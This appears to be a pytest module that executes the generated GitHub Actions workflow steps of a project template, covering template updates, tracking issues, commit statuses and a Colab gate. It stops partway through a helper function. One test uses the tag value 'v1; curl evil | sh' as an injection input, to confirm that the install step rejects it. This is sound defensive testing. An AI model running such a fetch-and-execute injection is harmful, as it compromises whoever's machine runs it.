"""Every `run:` of the generated workflows, executed here as GitHub Actions would run it.

GitHub cannot be reached from the tests, so each step's `run:` script is taken from the
rendered workflow file and executed with bash (GitHub's `bash --noprofile --norc -eo pipefail`)
or Python (`shell: python`), in a real git repo with a local bare remote, with the environment
the step declares filled in as GitHub would fill it. `gh` is replaced on PATH by a recording
stand-in (tests/gh_stand_in.py) that keeps issues, labels, workflows and commit statuses with
GitHub's field names, so each test asserts the exact calls. Copier, git, pytest, the notebook
runner (papermill) and pre-commit are the real ones.

EXERCISED_BY names the test of each `run:` step; a step no test covers fails
`test_every_run_step_is_exercised`. The steps that need what this machine lacks (conda, or
installs from the network) are checked, not run: the install of requirements.lock (the slow
tests install every generated repo from it), `conda list`, the pinned Copier and pre-commit
installs (the pins equal the releases these tests run) and the canary's install of the newest
releases (checked against the repo's own files).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import tomllib
from pathlib import Path

import nbformat
import pytest
import yaml
from gh_stand_in import GhStandIn
from github_server import workflow as workflow_entry
from support import CHECKOUT, VARIANTS, copy_template, git, retitle
from test_workflows import load

REPO = "ada/digits-cnn"
SHA = "5" * 40
RUN_URL = f"https://github.com/{REPO}/actions/runs/42"


def run_url(number: int) -> str:
    return f"https://github.com/{REPO}/actions/runs/{number}"


BIN = str(Path(sys.executable).parent)

NEWEST = "Install this package and the test tools, newest releases, nothing pinned"
NAME_FAILING = "Name the failing tests and notebooks"
RUN_TESTS = "Run the tests and execute every notebook"
RESOLVE_TODAY = "Resolve the lock as of today"
NOTEBOOKS_ON_PR = "Run the notebooks on the pull request"
TRACK = "Open, update or close the tracking issue"
DOWNLOAD_COLAB = "Download Colab's package list"
CHECK_COLAB = "Check the install cell against Colab"
REPORT_COLAB = "Report what the install cell does on Colab"
COLAB_SNAPSHOTS = CHECKOUT / "tests" / "data" / "colab"
INSTALLED_SUITE = (
    "tests/template/test_execute.py::test_generated_repo_test_suite_passes_including_its_notebooks"
)

# The test that executes (or, for the steps named above, checks) each `run:` step:
# (workflow file, job, step name). A test of another module is named by its path.
EXERCISED_BY = {
    "test_tool_pins_match_the_tested_tools": [
        ("notebooks.yml", "hygiene", "Install pre-commit"),
    ],
    "test_template_update_installs_tutorkit_from_its_repository_at_the_recorded_tag": [
        ("template-update.yml", "update", "Install tutorkit"),
        ("dependency-drift.yml", "refresh", "Install tutorkit"),
        ("colab.yml", "gate", "Install tutorkit"),
    ],
    "test_the_colab_gate_reports_the_install_cell_on_the_downloaded_runtime": [
        ("colab.yml", "gate", DOWNLOAD_COLAB),
        ("colab.yml", "gate", CHECK_COLAB),
        ("colab.yml", "gate", REPORT_COLAB),
    ],
    "test_the_colab_gate_fails_where_colabs_python_cannot_install_the_package": [
        ("colab.yml", "gate", REPORT_COLAB),
    ],
    "test_colab_gate_failures_go_to_their_own_issue": [("colab.yml", "track", TRACK)],
    "test_the_canary_resolves_the_lock_as_of_today": [
        ("dependency-drift.yml", "refresh", "Resolve the lock as of today"),
    ],
    "test_the_canary_starts_the_notebooks_on_its_pull_request_without_a_token": [
        ("dependency-drift.yml", "refresh", "Run the notebooks on the pull request"),
    ],
    "test_hygiene_fails_on_a_notebook_with_outputs": [
        ("notebooks.yml", "hygiene", "Fail when a notebook was committed with outputs"),
    ],
    # `pip install --require-hashes -r requirements.lock`, then the package with --no-deps: the
    # slow tests install every generated repo so (tests/support.py, install()), then run its
    # suite.
    INSTALLED_SUITE: [
        ("notebooks.yml", "pip", "Install the lock (hash-checked), then this tutorial's package"),
    ],
    "test_the_lock_step_fails_naming_each_package_that_differs": [
        ("notebooks.yml", "pip", "Fail when the environment is not the lock"),
        ("notebooks.yml", "conda", "Fail when the environment is not the lock"),
    ],
    # `conda list` (conda cannot solve here: no channels).
    "tests/template/test_workflows.py::test_notebooks_workflow_runs_everything_everywhere": [
        ("notebooks.yml", "conda", "Show the environment"),
    ],
    "test_failing_tests_and_notebooks_are_named": [
        (workflow, job, name)
        for workflow, job in (
            ("notebooks.yml", "pip"),
            ("notebooks.yml", "conda"),
            ("dependency-drift.yml", "latest"),
        )
        for name in (RUN_TESTS, NAME_FAILING)
    ],
    "test_dispatched_run_sets_the_commit_status": [
        ("notebooks.yml", "report", "Set the notebooks status of the commit"),
    ],
    "test_one_tracking_issue_opened_updated_and_closed": [("notebooks.yml", "track", TRACK)],
    "test_keep_alive_enables_each_workflow_not_disabled_by_hand": [
        ("notebooks.yml", "keep-alive", "Re-enable this repo's workflows"),
    ],
    "test_update_with_workflow_token_holds_back_workflow_changes_then_lands_them": [
        ("template-update.yml", "update", "Update from the template"),
        ("template-update.yml", "update", "Report the update"),
        ("template-update.yml", "update", "Run the notebooks on the pull request"),
    ],
    "test_held_back_changes_without_a_pull_request_fail_the_run": [
        (
            "template-update.yml",
            "update",
            "Fail when held-back workflow changes reach no pull request",
        ),
    ],
    "test_canary_installs_the_newest_releases_unpinned": [
        ("dependency-drift.yml", "latest", NEWEST),
    ],
    "test_canary_names_the_releases_that_differ_from_the_pins": [
        ("dependency-drift.yml", "latest", "Compare with the pins"),
    ],
    "test_canary_failures_go_to_their_own_issue": [("dependency-drift.yml", "track", TRACK)],
    # The canary's bisection runs offline on a tiny wheel folder; its uv install is checked.
    "tests/template/test_drift_bisect.py::test_the_canary_names_the_one_upgrade_that_breaks_it": [
        ("dependency-drift.yml", "latest", "Find the upgrade that breaks them"),
    ],
    "tests/template/test_drift_bisect.py::test_uv_is_installed_apart_at_tutorkits_release": [
        ("dependency-drift.yml", "latest", "Install uv, apart from the tested environment"),
    ],
}


# --- helpers ---


def workflow(repo: Path, name: str) -> dict:
    return load(repo / ".github" / "workflows" / name)


def step(repo: Path, name: str, job: str, step_name: str) -> dict:
    steps = workflow(repo, name)["jobs"][job]["steps"]
    (found,) = [s for s in steps if s.get("name") == step_name]
    return found


def run_step(found: dict, cwd: Path, env: dict[str, str], base: dict | None = None):
    """Run a step's `run:` as GitHub does, with `env` standing for the step's `env:` block."""
    assert set(env) == set(found.get("env", {})), "give exactly the env the step declares"
    environment = dict(os.environ if base is None else base)
    environment["PATH"] = os.pathsep.join([BIN, environment.get("PATH", "")])
    environment.update(env)
    if found.get("shell") == "python":
        script = Path(tempfile.mkdtemp()) / "step.py"
        script.write_text(found["run"])
        command = [sys.executable, str(script)]
    else:
        command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", found["run"]]
    return subprocess.run(command, cwd=cwd, env=environment, capture_output=True, text=True)


def actions_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """What GitHub Actions sets for every step (the files start empty)."""
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir(parents=True, exist_ok=True)
    env = {
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_SHA": SHA,
        "GITHUB_RUN_ID": "42",
        "GITHUB_WORKFLOW": "notebooks",
        "RUNNER_TEMP": str(runner_temp),
        "GITHUB_OUTPUT": str(tmp_path / "github-output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md"),
    }
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        Path(env[name]).write_text("")
    return {**os.environ, **env, **extra}


def outputs(env: dict) -> dict[str, str]:
    """The step outputs written to $GITHUB_OUTPUT (`name=value` and `name<<DELIM` forms)."""
    found, lines = {}, iter(Path(env["GITHUB_OUTPUT"]).read_text().splitlines())
    for line in lines:
        if "<<" in line and "=" not in line.split("<<", 1)[0]:
            name, delimiter = line.split("<<", 1)
            value = []
            for inner in lines:
                if inner == delimiter:
                    break
                value.append(inner)
            found[name] = "\n".join(value)
        else:
            name, _, value = line.partition("=")
            found[name] = value
    return found


def published(source: Path, tmp_path: Path) -> Path:
    """A copy of ``source`` as a git repo whose `origin` is a local bare repo (branch main)."""
    work = tmp_path / "repo"
    shutil.copytree(source, work, ignore=shutil.ignore_patterns(".git"))
    git(work, "init", "--quiet")
    git(work, "add", "--all")
    git(work, "commit", "--quiet", "-m", "Generated")
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "--quiet", "--bare", str(bare))
    git(work, "remote", "add", "origin", str(bare))
    git(work, "push", "--quiet", "origin", "main")
    return work


@pytest.fixture
def repo(variants, tmp_path) -> Path:
    return published(variants[VARIANTS[0]], tmp_path)


# --- every run: step has a test ---


def test_every_run_step_is_exercised(variants):
    rendered = variants[VARIANTS[0]]
    run_steps = set()
    for path in sorted((rendered / ".github" / "workflows").glob("*.yml")):
        for job_id, job in load(path)["jobs"].items():
            for s in job["steps"]:
                if "run" in s:
                    assert s.get("name"), f"{path.name}:{job_id}: a run step without a name"
                    run_steps.add((path.name, job_id, s["name"]))
    exercised = {entry for entries in EXERCISED_BY.values() for entry in entries}
    assert sorted(run_steps - exercised) == [], "run: steps that no test executes"
    assert sorted(exercised - run_steps) == [], "EXERCISED_BY names steps that are gone"
    here = Path(__file__).resolve()
    for test in EXERCISED_BY:
        path, _, name = test.rpartition("::")
        source = (here.parents[2] / path) if path else here
        assert re.search(rf"^def {name}\(", source.read_text(), re.M), test


def test_tool_pins_match_the_tested_tools(variants):
    """The workflows install the pre-commit release these tests run."""
    from importlib.metadata import version

    rendered = variants[VARIANTS[0]]
    found = step(rendered, "notebooks.yml", "hygiene", "Install pre-commit")
    tools = ".github/requirements-tools.lock"
    assert found["run"] == f"python -m pip install --require-hashes -r {tools}"
    assert f"\npre-commit=={version('pre-commit')} \\\n" in (rendered / tools).read_text()


def test_template_update_installs_tutorkit_from_its_repository_at_the_recorded_tag(
    variants, tmp_path
):
    """The install step runs with a recording `python` stand-in: it installs tutorkit from the
    template's canonical git repository at the release tag the answers file records (never a
    name from the package index), and refuses a `_commit` that is not a release tag."""
    rendered = variants[VARIANTS[0]]
    found = step(rendered, "template-update.yml", "update", "Install tutorkit")
    canary = step(rendered, "dependency-drift.yml", "refresh", "Install tutorkit")
    # The Colab gate installs it exactly so: the rule it runs is the template version's.
    assert step(rendered, "colab.yml", "gate", "Install tutorkit")["run"] == found["run"]
    # The canary's lock refresh installs it the same way (uv is in the hashed lock).
    assert canary["run"] == found["run"]
    assert "uv==" in (rendered / ".github" / "requirements-tutorkit.lock").read_text()
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    recorder = bin_dir / "python"
    recorder.write_text(
        f'#!/bin/sh\nprintf "%s|" "$@" >> {tmp_path / "args"}\necho >> {tmp_path / "args"}\n'
    )
    recorder.chmod(0o755)
    environment = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", found["run"]]
    repo = tmp_path / "repo"
    repo.mkdir()
    for tag, ok in (("v0.3.1", True), ("main", False), ("v1; curl evil | sh", False)):
        (repo / ".copier-answers.yml").write_text(f"_commit: {tag}\n_src_path: x\n")
        (tmp_path / "args").unlink(missing_ok=True)
        done = subprocess.run(command, cwd=repo, env=environment, capture_output=True, text=True)
        if ok:
            assert done.returncode == 0, done.stderr
            calls = [line.split("|")[:-1] for line in (tmp_path / "args").read_text().splitlines()]
            wanted = "tutorkit @ git+https://github.com/tutorkit/tutorkit.git@v0.3.1"
            lock = ".github/requirements-tutorkit.lock"
            assert calls == [
                ["-m", "pip", "install", "--require-hashes", "-r", lock],
                ["-m", "pip", "install", "--no-deps", wanted],
            ]
        else:
            assert done.returncode == 1 and not (tmp_path / "args").exists()
            assert "records no release tag" in done.stdout


# --- template-update: the pull request, the dispatched check, held-back workflow changes ---

IDENTITY_ENV = ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL")


@pytest.fixture(scope="module")
def releases(tmp_path_factory, isolated_git) -> str:
    """The template, released twice: v1.0.0 (this checkout) and v1.1.0, which adds a line at the
    end of pyproject.toml (a file the template keeps), retitles the README (the author's) and the
    starter notebook, changes a line of notebooks.yml and of a .github script, adds a file, and
    says so in its CHANGELOG.md. Returns its file:// URL (what answers files record)."""
    repo = copy_template(tmp_path_factory.mktemp("template") / "tutorkit.git")
    changelog = repo / "CHANGELOG.md"
    changelog.write_text("# Changelog\n\n## v1.0.0\n\n- First release.\n")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "v1.0.0")
    git(repo, "tag", "v1.0.0")
    project = repo / "templates" / "project"
    pyproject = project / "pyproject.toml.jinja"
    pyproject.write_text(pyproject.read_text() + "# v1.1.0: pins reviewed.\n")
    retitle(repo, " (v1.1)")
    notebooks = project / ".github" / "workflows" / "notebooks.yml.jinja"
    notebooks.write_text("# v1.1.0: a CI fix.\n" + notebooks.read_text())
    script = project / ".github" / "scripts" / "job_report.py"
    script.write_text(script.read_text() + "# v1.1.0\n")
    (project / "NEWS.md").write_text("News of v1.1.0.\n")
    changelog.write_text(
        "# Changelog\n\n## v1.1.0\n\n- A CI fix in notebooks.yml.\n\n"
        "## v1.0.0\n\n- First release.\n"
    )
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "v1.1.0")
    git(repo, "tag", "v1.1.0")
    return f"file://{repo}"


def generated_at(template: str, version: str, tmp_path: Path) -> Path:
    import copier

    dest = tmp_path / "render"
    data = {"github_owner": "ada", "repo_name": "digits-cnn"}
    copier.run_copy(template, dest, data=data, vcs_ref=version, defaults=True, quiet=True)
    return dest


def update_and_report(repo: Path, env: dict, own_token: bool, between=None) -> dict[str, str]:
    """The workflow's update step, then its report step; the report's step outputs."""
    update = step(repo, "template-update.yml", "update", "Update from the template")
    assert update["run"] == (
        'tutorkit update . --json > "$RUNNER_TEMP/tutorkit-update.json" || test "$?" -eq 1'
    )
    assert set(update["env"]) == set(IDENTITY_ENV)
    done = run_step(update, repo, update["env"], env)  # literal values: the bot's identity
    assert done.returncode == 0, done.stderr
    if between:
        between()
    report = step(repo, "template-update.yml", "update", "Report the update")
    done = run_step(report, repo, {"OWN_TOKEN": "true" if own_token else "false"}, env)
    assert done.returncode == 0, done.stderr
    return outputs(env)


def changed_paths(repo: Path) -> set[str]:
    status = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=all"],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return {line[3:] for line in status.splitlines()}


def test_update_with_workflow_token_holds_back_workflow_changes_then_lands_them(releases, tmp_path):
    """GITHUB_TOKEN path: workflow changes held back with `_commit` kept old, the notebooks
    workflow dispatched on the update branch with a pending status on its head; after the
    merge, the next update (own token) brings exactly the held-back changes, cleanly."""
    repo = published(generated_at(releases, "v1.0.0", tmp_path), tmp_path)
    env = actions_env(tmp_path / "week1")
    out = update_and_report(repo, env, own_token=False)
    assert {k: out[k] for k in ("old", "new", "conflicts", "withheld", "dispatch")} == {
        "old": "v1.0.0",
        "new": "v1.1.0",
        "conflicts": "false",
        "withheld": "true",
        "dispatch": "true",
    }
    assert out["title"] == "Template update: v1.0.0 -> v1.1.0 (workflow changes held back)"
    # Nothing under .github/ changes; the rest of the update is there; _commit stays old.
    assert changed_paths(repo) == {"pyproject.toml", "NEWS.md", "notebooks/01-quickstart.ipynb"}
    assert "_commit: v1.0.0\n" in (repo / ".copier-answers.yml").read_text()
    body = Path(out["body"]).read_text()
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    for text in (body, summary):
        assert "`v1.0.0` -> `v1.1.0`" in text
        assert "#### v1.1.0\n\n- A CI fix in notebooks.yml." in text
        assert "### Workflow changes held back" in text
        assert "- `.github/scripts/job_report.py` (changed)" in text
        assert "- `.github/workflows/notebooks.yml` (changed)" in text
        assert "\n+# v1.1.0: a CI fix.\n" in text  # the diff itself
        assert "`_commit` in `.copier-answers.yml` stays at `v1.0.0`" in text
        assert "run `tutorkit update`" in text and "`TEMPLATE_UPDATE_TOKEN` secret" in text
        assert "appears on this pull request as the `notebooks` status" in text
        assert text.rstrip().endswith("Merge it when it is green.")

    # What create-pull-request does next: commit on the branch and push it with the token.
    git(repo, "checkout", "--quiet", "-b", "template-update")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "Update from the tutorkit template (v1.0.0 -> v1.1.0)")
    git(repo, "push", "--quiet", "origin", "template-update")
    head = git(repo, "rev-parse", "HEAD")
    gh = GhStandIn(tmp_path, REPO, workflows=[workflow_entry(1, "notebooks.yml", "active", REPO)])
    dispatch = step(repo, "template-update.yml", "update", "Run the notebooks on the pull request")
    assert "steps.update.outputs.dispatch == 'true'" in dispatch["if"]
    for operation in ("created", "updated"):
        assert f"steps.pr.outputs.pull-request-operation == '{operation}'" in dispatch["if"]
    step_env = {"GH_TOKEN": "ghs_t", "GH_REPO": REPO, "BRANCH": "template-update", "HEAD_SHA": head}
    done = run_step(dispatch, repo, step_env, gh.env(env))
    assert done.returncode == 0, done.stderr
    runs = (
        f"https://github.com/{REPO}/actions/workflows/notebooks.yml?query=branch%3Atemplate-update"
    )
    assert gh.calls == [
        [
            "api",
            "--method",
            "POST",
            f"repos/{REPO}/statuses/{head}",
            "-f",
            "state=pending",
            "-f",
            "context=notebooks",
            "-f",
            "description=The notebooks workflow runs on this commit",
            "-f",
            f"target_url={runs}",
        ],
        ["workflow", "run", "notebooks.yml", "--ref", "template-update"],
    ]
    assert {c["GH_TOKEN"] for c in gh.state["calls"]} == {"ghs_t"}
    # The dispatched ref is the pull request's head commit: that run's status lands on it.
    assert git(repo, "ls-remote", "origin", "refs/heads/template-update").split()[0] == head

    # The pull request is merged; a week later the workflow runs with a token of its own.
    git(repo, "checkout", "--quiet", "main")
    git(repo, "merge", "--quiet", "--ff-only", "template-update")
    git(repo, "push", "--quiet", "origin", "main")
    env = actions_env(tmp_path / "week2")
    out = update_and_report(repo, env, own_token=True)
    assert (out["old"], out["new"], out["conflicts"], out["withheld"], out["dispatch"]) == (
        "v1.0.0",
        "v1.1.0",
        "false",
        "false",
        "false",
    )
    assert changed_paths(repo) == {
        ".copier-answers.yml",
        ".github/scripts/job_report.py",
        ".github/workflows/notebooks.yml",
    }
    assert "_commit: v1.1.0\n" in (repo / ".copier-answers.yml").read_text()
    assert (repo / ".github/workflows/notebooks.yml").read_text().startswith("# v1.1.0: a CI fix.")
    body = Path(out["body"]).read_text()
    assert "No conflicts" in body and "held back" not in body
    assert body.rstrip().endswith(
        "The `notebooks` workflow runs on this pull request: merge it when it is green."
    )


def test_update_report_names_conflicts_and_quotes_the_changelog(releases, tmp_path):
    """Real conflicts (the author's own last line of pyproject.toml and own notebook title
    against v1.1.0's) and a leftover .rej; the README, the author's, left alone."""
    project = generated_at(releases, "v1.0.0", tmp_path)
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + "# The author's own last line.\n")
    notebook = project / "notebooks" / "01-quickstart.ipynb"
    notebook.write_text(notebook.read_text().replace('"# ', '"# My own title: ', 1))
    (project / "LICENSE").unlink()
    repo = published(project, tmp_path)
    rejected = repo / "configs" / "default.yaml.rej"  # as `copier update --conflict rej` leaves
    env = actions_env(tmp_path)
    out = update_and_report(repo, env, True, between=lambda: rejected.write_text("@@ -1 +1 @@\n"))
    assert (out["conflicts"], out["withheld"]) == ("true", "false")
    body = Path(out["body"]).read_text()
    conflicts = body.split("**Conflicts to resolve by hand**")[1]
    assert "- `pyproject.toml`: 1 conflicting part(s)" in conflicts
    assert "- `configs/default.yaml.rej`\n" in conflicts
    assert "- `notebooks/01-quickstart.ipynb`: conflicts in cell 1 ('# My own title: " in conflicts
    assert "<<<<<<< before updating" in (repo / "pyproject.toml").read_text()
    yours = body.split("### Your files: left alone")[1]
    assert "- `README.md`" in yours and "(v1.1)\n" in yours
    assert "Files you deleted stay deleted: `LICENSE`." in yours
    notes = body.split("### What changed in the template")[1].split("**Conflicts")[0]
    assert "#### v1.1.0" in notes and "v1.0.0" not in notes


def test_report_says_when_the_changelog_cannot_be_read(variants, tmp_path):
    """A `gh:` source (see TK110) cannot be cloned: the body says so instead of going quiet."""
    repo = published(variants[VARIANTS[0]], tmp_path)
    answers = repo / ".copier-answers.yml"
    text = re.sub(
        r"^_src_path: .*$", "_src_path: gh:tutorkit/tutorkit", answers.read_text(), flags=re.M
    )
    answers.write_text(text)
    git(repo, "commit", "--quiet", "-am", "A gh: source")
    answers.write_text(re.sub(r"^_commit: .*$", "_commit: v9.9.9", text, flags=re.M))
    env = actions_env(tmp_path)
    # As `tutorkit update --json` reports a repo it updated without telling anything more.
    (Path(env["RUNNER_TEMP"]) / "tutorkit-update.json").write_text(
        '[{"result": "updated", "reason": "", "files": []}]'
    )
    report = step(repo, "template-update.yml", "update", "Report the update")
    done = run_step(report, repo, {"OWN_TOKEN": "false"}, env)
    assert done.returncode == 0, done.stderr
    body = Path(outputs(env)["body"]).read_text()
    assert "The template's changelog could not be read from `gh:tutorkit/tutorkit` (" in body
    assert "### What changed in the template" not in body


def test_the_pull_request_links_to_the_token_set_up():
    """The held-back section links to the docs section that explains the token set-up."""
    script = (CHECKOUT / "templates/project/.github/scripts/template_update.py").read_text()
    (url,) = re.findall(r'TOKEN_DOCS = "([^"]+)"', script)
    page, _, anchor = url.removeprefix("https://tutorkit.github.io/tutorkit/").partition("/#")
    assert re.search(
        rf"^#+ .*\{{#{anchor}\}}$", (CHECKOUT / "docs" / f"{page}.md").read_text(), re.M
    )


def test_held_back_changes_without_a_pull_request_fail_the_run(variants, tmp_path):
    """Held-back workflow changes and nothing else to propose: the run fails, never silent."""
    found = step(
        variants[VARIANTS[0]],
        "template-update.yml",
        "update",
        "Fail when held-back workflow changes reach no pull request",
    )
    assert "steps.update.outputs.withheld == 'true'" in found["if"]
    assert "steps.pr.outputs.pull-request-number == ''" in found["if"]
    done = run_step(found, tmp_path, {"OLD": "v1.0.0", "NEW": "v1.1.0"})
    assert done.returncode == 1
    assert done.stdout.startswith("::error::The template's workflow changes (v1.0.0 -> v1.1.0)")
    assert "tutorkit update" in done.stdout


# --- notebooks: the dispatched run's commit status ---


@pytest.mark.parametrize(
    ("results", "state", "description"),
    [
        ("success success success", "success", "Every notebook and test passed"),
        ("success failure success", "failure", "A job failed: see the run"),
        ("success cancelled success", "error", "The run was cancelled"),
    ],
)
def test_dispatched_run_sets_the_commit_status(repo, tmp_path, results, state, description):
    """A workflow_dispatch run (the one template-update starts) reports on the commit it ran."""
    report = workflow(repo, "notebooks.yml")["jobs"]["report"]
    assert report["if"] == "always() && github.event_name == 'workflow_dispatch'"
    assert report["permissions"] == {"statuses": "write"}
    assert report["needs"] == ["hygiene", "pip", "conda"]
    gh = GhStandIn(tmp_path, REPO)
    (found,) = report["steps"]
    done = run_step(
        found, repo, {"GH_TOKEN": "ghs_t", "RESULTS": results}, gh.env(actions_env(tmp_path))
    )
    assert done.returncode == 0, done.stderr
    assert gh.calls == [
        [
            "api",
            "--method",
            "POST",
            f"repos/{REPO}/statuses/{SHA}",
            "-f",
            f"state={state}",
            "-f",
            "context=notebooks",
            "-f",
            f"description={description}",
            "-f",
            f"target_url={RUN_URL}",
        ],
    ]


# --- tracking issues: one per label, opened, commented, closed ---


def needs(**results: str | tuple[str, str]) -> str:
    """`toJSON(needs)`: each job's result and outputs (`failed`: its failing tests)."""
    jobs = {}
    for job, value in results.items():
        result, failed = value if isinstance(value, tuple) else (value, "")
        jobs[job] = {"result": result, "outputs": {"failed": failed}}
    return json.dumps(jobs)


def tracker(repo: Path, gh: GhStandIn, tmp_path: Path, workflow_file: str):
    """`run(needs_json, event, run)`: the workflow's track step for one run; the gh calls."""
    found = step(repo, workflow_file, "track", TRACK)
    base = gh.env(actions_env(tmp_path, GITHUB_WORKFLOW=workflow(repo, workflow_file)["name"]))

    def run(needs_json: str, event: str = "schedule", number: int = 42) -> list[list[str]]:
        gh.forget_calls()
        env = {"GH_TOKEN": "ghs_t", "GH_REPO": REPO, "NEEDS": needs_json, "EVENT": event}
        done = run_step(found, repo, {**env, "RUN_URL": run_url(number)}, base)
        assert done.returncode == 0, done.stderr
        return gh.calls

    return run


def open_issue(number: int, label: str) -> dict:
    return {"number": number, "title": "t", "body": "", "labels": [label], "state": "open",
            "state_reason": None, "comments": []}  # fmt: skip


def listing(label: str) -> list[str]:
    return ["issue", "list", "--label", label, "--state", "open", "--json", "number"]


def test_one_tracking_issue_opened_updated_and_closed(repo, tmp_path):
    """Week 1 fails: one issue. Week 2 fails: a comment on the same issue. Week 3 passes:
    closed. A failing push opens nothing; a cancelled run changes nothing."""
    job = workflow(repo, "notebooks.yml")["jobs"]["track"]
    assert job["permissions"] == {"contents": "read", "issues": "write"}
    assert job["concurrency"] == {
        "group": "tracking-issue-notebooks-failing",
        "cancel-in-progress": False,
    }
    assert job["needs"] == ["hygiene", "pip", "conda"]
    # Weekly runs, and pushes or runs started by hand on the default branch.
    assert job["if"] == (
        "always() && (github.event_name == 'schedule' || ((github.event_name == 'push' || "
        "github.event_name == 'workflow_dispatch') && github.ref_name == "
        "github.event.repository.default_branch))"
    )
    gh = GhStandIn(tmp_path, REPO)
    week = tracker(repo, gh, tmp_path, "notebooks.yml")
    label = "notebooks-failing"

    assert week(needs(hygiene="success", pip="success", conda="cancelled")) == [listing(label)]
    assert week(needs(hygiene="failure", pip="success", conda="success"), "push") == [
        listing(label)
    ]
    assert gh.state["issues"] == []

    failing = ("failure", "notebooks/01-quickstart.ipynb\n")
    calls = week(needs(hygiene="success", pip=failing, conda="success"), number=1)
    assert calls[:2] == [
        listing(label),
        [*("label", "create", label, "--color", "B60205", "--force"),
         *("--description", "Opened and closed by the notebooks workflow")],
    ]  # fmt: skip
    assert calls[2][:6] == [
        *("issue", "create", "--title", "The weekly notebooks run fails"),
        *("--label", label),
    ]
    assert len(calls) == 3
    (issue,) = gh.state["issues"]
    assert (issue["number"], issue["state"], issue["labels"]) == (1, "open", [label])
    assert issue["body"].startswith(f"The notebooks run failed: {run_url(1)}\n")
    assert "- `pip`:\n  - `notebooks/01-quickstart.ipynb`\n" in issue["body"]
    assert "`conda`" not in issue["body"] and "next passing run closes it" in issue["body"]

    calls = week(needs(hygiene="success", pip="success", conda="failure"), number=2)
    assert calls[0] == listing(label) and calls[1][:3] == ["issue", "comment", "1"]
    assert len(calls) == 2
    (issue,) = gh.state["issues"]
    (comment,) = issue["comments"]
    assert comment.startswith("Still failing (") and run_url(2) in comment
    assert "- `conda`\n" in comment

    calls = week(needs(hygiene="success", pip="success", conda="success"), "push", number=3)
    assert calls == [
        listing(label),
        ["issue", "close", "1", "--comment", f"The notebooks run passes again: {run_url(3)}"],
    ]
    assert [(i["number"], i["state"]) for i in gh.state["issues"]] == [(1, "closed")]
    assert {c["GH_TOKEN"] for c in gh.state["calls"]} == {"ghs_t"}


def test_duplicate_tracking_issues_are_closed_into_the_oldest(repo, tmp_path):
    """Should two issues with the label ever be open, the newer is closed as a duplicate."""
    label = "notebooks-failing"
    opened = [open_issue(3, label), open_issue(5, label)]
    gh = GhStandIn(tmp_path, REPO, issues=opened, labels={label: {}})
    calls = tracker(repo, gh, tmp_path, "notebooks.yml")(
        needs(hygiene="success", pip="failure", conda="success")
    )
    assert calls[1] == [
        *("issue", "close", "5", "--comment"),
        "Duplicate of #3: one tracking issue per label (`notebooks-failing`).",
        *("--reason", "not planned"),
    ]
    assert calls[2][:3] == ["issue", "comment", "3"] and len(calls) == 3
    states = {i["number"]: (i["state"], i["state_reason"]) for i in gh.state["issues"]}
    assert states == {3: ("open", None), 5: ("closed", "not_planned")}


def beside_the_notebooks_issue(tmp_path: Path) -> GhStandIn:
    """A `gh` stand-in for a repo whose notebooks tracking issue (#1) is open."""
    return GhStandIn(
        tmp_path,
        REPO,
        issues=[open_issue(1, "notebooks-failing")],
        labels={"notebooks-failing": {}},
    )


def test_canary_failures_go_to_their_own_issue(repo, tmp_path):
    """The canary keeps its own issue (label dependency-drift), beside the notebooks one."""
    job = workflow(repo, "dependency-drift.yml")["jobs"]["track"]
    assert job["concurrency"]["group"] == "tracking-issue-dependency-drift"
    gh = beside_the_notebooks_issue(tmp_path)
    canary = tracker(repo, gh, tmp_path, "dependency-drift.yml")
    drift = "- `torch`: pinned 2.13.0, newest 2.14.0"
    failed = {"failed": "notebooks/01-quickstart.ipynb", "drift": drift}
    failing = json.dumps({"latest": {"result": "failure", "outputs": failed}})
    calls = canary(failing, "workflow_dispatch", number=7)  # started by hand
    assert calls[:2] == [
        listing("dependency-drift"),
        [*("label", "create", "dependency-drift", "--color", "FBCA04", "--force"),
         *("--description", "Opened and closed by the dependency-drift workflow")],
    ]  # fmt: skip
    assert calls[2][:6] == [
        *("issue", "create", "--title"),
        "The newest releases of the dependencies break the notebooks",
        *("--label", "dependency-drift"),
    ]
    notebooks_issue, canary_issue = gh.state["issues"]
    assert (notebooks_issue["state"], notebooks_issue["comments"]) == ("open", [])  # untouched
    assert canary_issue["labels"] == ["dependency-drift"]
    assert run_url(7) in canary_issue["body"]
    assert "- `latest`:\n  - `notebooks/01-quickstart.ipynb`\n" in canary_issue["body"]
    assert f"differ from the pins (requirements.lock):\n\n{drift}\n" in canary_issue["body"]
    calls = canary(json.dumps({"latest": {"result": "success", "outputs": {}}}))
    assert calls[1][:3] == ["issue", "close", "2"]
    assert [i["state"] for i in gh.state["issues"]] == ["open", "closed"]


# --- the Colab gate ---


def colab_gate(repo: Path, snapshot: Path, tmp_path: Path) -> tuple[dict, list]:
    """The gate's download, check and report steps, as GitHub runs them, with `curl` reading
    the snapshot folder (a file:// URL) in place of raw.githubusercontent.com (unreachable
    here) and this checkout's tutorkit on PATH; the environment and each step's result."""
    env = actions_env(tmp_path, GITHUB_WORKFLOW="colab")
    download = step(repo, "colab.yml", "gate", DOWNLOAD_COLAB)
    assert download["env"] == {
        "BACKEND_INFO": "https://raw.githubusercontent.com/googlecolab/backend-info/main"
    }
